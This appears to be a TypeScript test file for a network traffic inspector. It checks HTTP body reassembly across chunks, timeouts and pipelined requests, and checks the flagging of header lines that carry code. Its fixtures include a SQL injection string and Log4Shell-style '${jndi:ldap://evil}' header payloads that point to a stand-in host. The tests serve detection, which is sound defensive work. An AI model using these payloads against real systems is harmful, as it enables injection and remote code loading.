/** A request is told with the beginning of its body, however that comes, and with every header line that carries code. */
import { describe, expect, it } from 'vitest';
import { inspect, tcp, Wire } from './wire.ts';

const post = (more: string): string => `POST /form HTTP/1.1\r\nHost: a\r\n${more}\r\n\r\n`;
const INJECTED = "id=1' OR '1'='1";
const LENGTH = `Content-Length: ${INJECTED.length}`;
const bodies = (...payloads: string[]): string[] => {
  const { wire } = inspect(tcp(80), (f) => payloads.forEach((payload) => f.client(payload)));
  return wire.of('http').map(({ body }) => body);
};

describe('the body of a request', () => {
  it('is read in pieces', () => {
    expect(bodies(post(LENGTH), INJECTED.slice(0, 1), INJECTED.slice(1, 5), INJECTED.slice(5))).toEqual([INJECTED]);
  });

  it('is read out of its chunks, however small and wherever they come', () => {
    const chunks = INJECTED.split('')
      .map((letter) => `1\r\n${letter}\r\n`)
      .join('');
    for (const cut of [0, 1, 30]) {
      const payloads = [post('Transfer-Encoding: chunked') + chunks.slice(0, cut), `${chunks.slice(cut)}0\r\n\r\n`];
      expect(bodies(...payloads)).toEqual([INJECTED]);
    }
  });

  it('is not waited for without end: not for more than five seconds, nor when the connection ends', () => {
    const long = post('Content-Length: 1000');
    // One a second.
    expect(bodies(long, ...'abcdefghijkl'.split(''))).toEqual(['abcdef']);
    const wire = new Wire();
    const flow = wire.flow(tcp(80));
    flow.client(long).client('abc');
    wire.run();
    expect(wire.of('http')).toEqual([]);
    wire.finish(flow);
    expect(wire.of('http')).toMatchObject([{ method: 'POST', uri: '/form', body: 'abc', fromOrig: true }]);
  });

  it('leaves what follows it to the next request', () => {
    const next = 'GET /next HTTP/1.1\r\nHost: a\r\n\r\n';
    const { wire } = inspect(tcp(80), (f) => f.client(post(LENGTH)).client(INJECTED + next));
    expect(wire.of('http').map(({ uri, body }) => [uri, body])).toEqual([
      ['/form', INJECTED],
      ['/next', ''],
    ]);
  });
});

describe('header lines with code', () => {
  const odd = (...lines: string[]): string | undefined => {
    const request = `GET / HTTP/1.1\r\nHost: a\r\n${lines.join('\r\n')}\r\n\r\n`;
    return inspect(tcp(80), (f) => f.client(request)).wire.of('http')[0]!.oddHeader;
  };

  it('are all shown, also behind one that means nothing', () => {
    expect(odd('X-A: ${a}', 'X-B: ${jndi:ldap://evil}')).toBe('X-A: ${a}\nX-B: ${jndi:ldap://evil}');
  });

  it('are shown where the code is, however much stands before it', () => {
    expect(odd(`X-A: ${'a'.repeat(2000)}\${jndi:ldap://evil}`)).toBe(`${'a'.repeat(64)}\${jndi:ldap://evil}`);
  });

  it('are shown up to a bound', () => {
    expect(odd(...Array.from({ length: 200 }, (_, i) => `X-${i}: \${${'a'.repeat(600)}}`))!.length).toBeLessThan(1600);
  });
});
